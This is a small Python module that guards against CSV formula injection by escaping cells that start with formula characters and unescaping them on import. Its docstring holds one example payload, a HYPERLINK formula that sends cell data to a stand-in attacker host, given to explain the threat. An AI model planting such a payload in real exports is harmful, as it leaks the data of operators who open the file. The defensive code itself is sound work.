"""CSV cells that a spreadsheet would run as formulas.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return before one) as a formula: a debtor's name such as
``=HYPERLINK("http://evil.example/?"&A1)`` in a rejects file or a forecast would run on the
operator's machine. Such a cell is written with a leading apostrophe, which spreadsheets
show as text, and the import takes that apostrophe off again, so that a rejects file can
still be corrected and imported as it is.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def as_written(cell: str) -> str:
    """A cell read back: the apostrophe ``spreadsheet_safe`` put before a formula's first
    character taken off."""
    if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
        return cell[1:]
    return cell
